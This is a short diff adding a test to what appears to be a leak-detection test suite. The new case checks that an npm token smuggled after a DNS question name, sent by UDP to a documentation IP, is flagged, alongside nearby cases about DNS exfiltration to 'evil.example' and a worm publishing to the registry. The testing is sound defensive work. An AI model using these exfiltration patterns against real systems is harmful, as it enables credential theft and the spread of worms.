@@ -97,6 +97,12 @@ describe("a leak", () => {
     expect(seen).toEqual(leaked("npm token via dns to evil.example"));
   });
 
+  test("beside the name in a DNS question is found, too", () => {
+    const extended = Uint8Array.from([...dnsQuestion("a.example"), ...ascii(NPM_TOKEN)]);
+    const seen = leaks((story, process) => story.send(process, { ...EVIL, type: "udp" }, extended));
+    expect(seen).toEqual(leaked("npm token via udp to 203.0.113.7:80"));
+  });
+
   test("to the registry is one, too: so a worm publishes", () => {
     const seen = leaks((story, process) => {
       story.socket(process, "connect", REGISTRY);
